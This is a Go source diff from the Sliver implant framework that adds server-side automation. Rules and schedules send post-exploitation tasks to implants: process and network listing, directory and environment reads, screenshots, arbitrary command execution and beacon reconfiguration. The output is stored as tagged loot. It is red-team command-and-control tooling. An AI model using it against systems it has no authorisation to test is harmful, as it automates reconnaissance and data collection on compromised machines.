@@ -0,0 +1,364 @@
+package automation
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"sync"
+	"time"
+
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/db"
+	"github.com/bishopfox/sliver/server/db/models"
+	"github.com/bishopfox/sliver/server/loot"
+	"google.golang.org/grpc"
+	"google.golang.org/protobuf/encoding/protojson"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	// taskTimeout - Timeout of each interactive task
+	taskTimeout = 60 * time.Second
+	// hostWait - How long a tag task waits for the host to be added to the database
+	hostWait = 10 * time.Second
+)
+
+// Operator - The operator automation rules and schedules task implants as
+const Operator = "automation"
+
+// Tasker - The tasks automation rules and schedules can send, implemented by an rpc
+// client so tasks go through the same audit log, opsec policies and target locks as
+// an operator's tasks
+type Tasker interface {
+	Ps(context.Context, *sliverpb.PsReq, ...grpc.CallOption) (*sliverpb.Ps, error)
+	Ifconfig(context.Context, *sliverpb.IfconfigReq, ...grpc.CallOption) (*sliverpb.Ifconfig, error)
+	Netstat(context.Context, *sliverpb.NetstatReq, ...grpc.CallOption) (*sliverpb.Netstat, error)
+	Pwd(context.Context, *sliverpb.PwdReq, ...grpc.CallOption) (*sliverpb.Pwd, error)
+	Ls(context.Context, *sliverpb.LsReq, ...grpc.CallOption) (*sliverpb.Ls, error)
+	GetEnv(context.Context, *sliverpb.EnvReq, ...grpc.CallOption) (*sliverpb.EnvInfo, error)
+	Screenshot(context.Context, *sliverpb.ScreenshotReq, ...grpc.CallOption) (*sliverpb.Screenshot, error)
+	Execute(context.Context, *sliverpb.ExecuteReq, ...grpc.CallOption) (*sliverpb.Execute, error)
+	Reconfigure(context.Context, *sliverpb.ReconfigureReq, ...grpc.CallOption) (*sliverpb.Reconfigure, error)
+}
+
+// taskResponse - Every implant response has a response header
+type taskResponse interface {
+	proto.Message
+	GetResponse() *commonpb.Response
+}
+
+// target - The session or beacon a rule or schedule runs against
+type target struct {
+	ID       string
+	Name     string
+	Hostname string
+	Username string
+	OS       string
+	HostUUID string
+	IsBeacon bool
+
+	RemoteAddress string
+}
+
+func sessionTarget(session *core.Session) *target {
+	return &target{
+		ID:       session.ID,
+		Name:     session.Name,
+		Hostname: session.Hostname,
+		Username: session.Username,
+		OS:       session.OS,
+		HostUUID: session.UUID,
+
+		RemoteAddress: session.Connection.RemoteAddress,
+	}
+}
+
+func beaconTarget(beacon *models.Beacon) *target {
+	return &target{
+		ID:       beacon.ID.String(),
+		Name:     beacon.Name,
+		Hostname: beacon.Hostname,
+		Username: beacon.Username,
+		OS:       beacon.OS,
+		HostUUID: beacon.UUID.String(),
+		IsBeacon: true,
+
+		RemoteAddress: beacon.RemoteAddress,
+	}
+}
+
+// String - Describe the target in events
+func (t *target) String() string {
+	kind := "session"
+	if t.IsBeacon {
+		kind = "beacon"
+	}
+	return fmt.Sprintf("%s (%s %s)", t.Hostname, kind, strings.Split(t.ID, "-")[0])
+}
+
+// request - Sessions are tasked synchronously, beacon tasks are queued
+func (t *target) request() *commonpb.Request {
+	if t.IsBeacon {
+		return &commonpb.Request{BeaconID: t.ID, Async: true}
+	}
+	return &commonpb.Request{SessionID: t.ID, Timeout: int64(taskTimeout)}
+}
+
+// origin - The rule or schedule that sent a task
+type origin struct {
+	kind string
+	name string
+}
+
+// String - Describe the origin in events, e.g. "rule recon"
+func (o *origin) String() string {
+	return o.kind + " " + o.name
+}
+
+// Tag - The loot tag of task output, e.g. "rule:recon"
+func (o *origin) Tag() string {
+	return o.kind + ":" + o.name
+}
+
+// pendingResult - A queued beacon task whose output is saved as loot when it completes
+type pendingResult struct {
+	origin *origin
+	task   *Task
+	target *target
+	resp   taskResponse
+}
+
+type runner struct {
+	tasker  Tasker
+	pending map[string]*pendingResult
+	mutex   *sync.Mutex
+}
+
+func newRunner(tasker Tasker) *runner {
+	return &runner{
+		tasker:  tasker,
+		pending: map[string]*pendingResult{},
+		mutex:   &sync.Mutex{},
+	}
+}
+
+// trigger - Start every enabled rule matching the event, each rule runs its tasks in order
+func (r *runner) trigger(eventType string, target *target) {
+	rules, err := db.AutomationRules()
+	if err != nil {
+		automationLog.Errorf("Failed to load automation rules: %s", err)
+		return
+	}
+	for _, rule := range rules {
+		if !matches(rule, eventType, target) {
+			continue
+		}
+		tasks, err := ParseTasks(strings.Split(rule.Tasks, "\n"))
+		if err != nil {
+			automationLog.Errorf("Automation rule %s is invalid: %s", rule.Name, err)
+			continue
+		}
+		go r.run(&origin{kind: "rule", name: rule.Name}, tasks, target)
+	}
+}
+
+func (r *runner) run(origin *origin, tasks []*Task, target *target) {
+	publish("Automation %s triggered by %s", origin, target)
+	for _, task := range tasks {
+		if !target.IsBeacon && core.Sessions.Get(target.ID) == nil {
+			publish("Automation %s stopped, %s disconnected", origin, target)
+			return
+		}
+		resp, err := r.runTask(task, target)
+		if err != nil {
+			publish("Automation %s failed to run '%s' on %s: %s", origin, task, target, err)
+			continue
+		}
+		if resp == nil {
+			continue
+		}
+		if target.IsBeacon {
+			r.queued(&pendingResult{origin: origin, task: task, target: target, resp: resp})
+			continue
+		}
+		_, err = saveOutput(origin, task, target, resp)
+		if err != nil {
+			publish("Automation %s failed to save the output of '%s' on %s: %s", origin, task, target, err)
+		}
+	}
+	publish("Automation %s completed on %s", origin, target)
+}
+
+// runTask - Send a task, returns the response of tasks that produce output
+func (r *runner) runTask(task *Task, target *target) (taskResponse, error) {
+	ctx := context.Background()
+	switch task.Name {
+	case TaskPs:
+		return r.tasker.Ps(ctx, &sliverpb.PsReq{Request: target.request()})
+	case TaskIfconfig:
+		return r.tasker.Ifconfig(ctx, &sliverpb.IfconfigReq{Request: target.request()})
+	case TaskNetstat:
+		return r.tasker.Netstat(ctx, &sliverpb.NetstatReq{
+			TCP: true, UDP: true, IP4: true, IP6: true, Listening: true,
+			Request: target.request(),
+		})
+	case TaskPwd:
+		return r.tasker.Pwd(ctx, &sliverpb.PwdReq{Request: target.request()})
+	case TaskLs:
+		path := "."
+		if 0 < len(task.Args) {
+			path = task.Args[0]
+		}
+		return r.tasker.Ls(ctx, &sliverpb.LsReq{Path: path, Request: target.request()})
+	case TaskGetEnv:
+		name := ""
+		if 0 < len(task.Args) {
+			name = task.Args[0]
+		}
+		return r.tasker.GetEnv(ctx, &sliverpb.EnvReq{Name: name, Request: target.request()})
+	case TaskScreenshot:
+		return r.tasker.Screenshot(ctx, &sliverpb.ScreenshotReq{Request: target.request()})
+	case TaskExecute:
+		return r.tasker.Execute(ctx, &sliverpb.ExecuteReq{
+			Path:    task.Args[0],
+			Args:    task.Args[1:],
+			Output:  true,
+			Request: target.request(),
+		})
+	case TaskInterval:
+		req := &sliverpb.ReconfigureReq{Request: target.request()}
+		if target.IsBeacon {
+			req.BeaconInterval = int64(task.Interval)
+			req.BeaconJitter = int64(task.Jitter)
+		} else {
+			req.ReconnectInterval = int64(task.Interval)
+		}
+		_, err := r.tasker.Reconfigure(ctx, req)
+		return nil, err
+	case TaskTag:
+		return nil, tagHost(target, task.Args[0])
+	case TaskSleep:
+		time.Sleep(task.Duration)
+		return nil, nil
+	}
+	return nil, fmt.Errorf("unknown task '%s'", task.Name)
+}
+
+// queued - Remember a beacon task so its output can be saved when the beacon checks in
+func (r *runner) queued(result *pendingResult) {
+	header := result.resp.GetResponse()
+	if header == nil || header.TaskID == "" {
+		return
+	}
+	r.mutex.Lock()
+	defer r.mutex.Unlock()
+	r.pending[header.TaskID] = result
+}
+
+// beaconResult - Save the output of a completed beacon task queued by a rule or schedule
+func (r *runner) beaconResult(taskID string) {
+	r.mutex.Lock()
+	result, ok := r.pending[taskID]
+	delete(r.pending, taskID)
+	r.mutex.Unlock()
+	if !ok {
+		return
+	}
+	task, err := db.BeaconTaskByID(taskID)
+	if err != nil {
+		automationLog.Errorf("Failed to load beacon task %s: %s", taskID, err)
+		return
+	}
+	if task.State != models.COMPLETED {
+		publish("Automation %s task '%s' on %s did not complete (%s)", result.origin, result.task, result.target, task.State)
+		return
+	}
+	err = proto.Unmarshal(task.Response, result.resp)
+	if err != nil {
+		automationLog.Errorf("Failed to decode beacon task %s: %s", taskID, err)
+		return
+	}
+	_, err = saveOutput(result.origin, result.task, result.target, result.resp)
+	if err != nil {
+		publish("Automation %s failed to save the output of '%s' on %s: %s", result.origin, result.task, result.target, err)
+	}
+}
+
+// saveOutput - Task output is saved as loot tagged with the rule or schedule, screenshots
+// are saved as images and execute output as plain text, everything else as json
+func saveOutput(origin *origin, task *Task, target *target, resp taskResponse) (string, error) {
+	if header := resp.GetResponse(); header != nil && header.Err != "" {
+		return "", fmt.Errorf("%s", header.Err)
+	}
+	timestamp := time.Now().Format("20060102150405")
+	file := &commonpb.File{Name: fmt.Sprintf("%s_%s_%s.json", task.Name, target.Hostname, timestamp)}
+	fileType := clientpb.FileType_TEXT
+	switch resp := resp.(type) {
+	case *sliverpb.Screenshot:
+		file.Name = fmt.Sprintf("%s_%s_%s.png", task.Name, target.Hostname, timestamp)
+		file.Data = resp.Data
+		fileType = clientpb.FileType_BINARY
+	case *sliverpb.Execute:
+		file.Name = fmt.Sprintf("%s_%s_%s.txt", task.Name, target.Hostname, timestamp)
+		file.Data = append(append(resp.Stdout, '\n'), resp.Stderr...)
+	default:
+		data, err := protojson.MarshalOptions{Multiline: true}.Marshal(resp)
+		if err != nil {
+			return "", err
+		}
+		file.Data = data
+	}
+	saved, err := loot.GetLootStore().Add(&clientpb.Loot{
+		Name:           fmt.Sprintf("%s on %s", task, target.Hostname),
+		FileType:       fileType,
+		File:           file,
+		OriginHostUUID: target.HostUUID,
+		Tags:           []string{"automation", origin.Tag()},
+	})
+	if err != nil {
+		return "", err
+	}
+	core.EventBroker.Publish(core.Event{
+		EventType: consts.LootAddedEvent,
+		Data:      []byte(saved.ID),
+	})
+	return saved.ID, nil
+}
+
+// tagHost - The host is added to the database by another event subscriber, so a
+// rule that starts with a tag task may have to wait for it
+func tagHost(target *target, name string) error {
+	deadline := time.Now().Add(hostWait)
+	for {
+		host, err := db.HostByHostUUID(target.HostUUID)
+		if err == nil {
+			return db.AddHostTag(host, name)
+		}
+		if time.Now().After(deadline) {
+			return err
+		}
+		time.Sleep(time.Second)
+	}
+}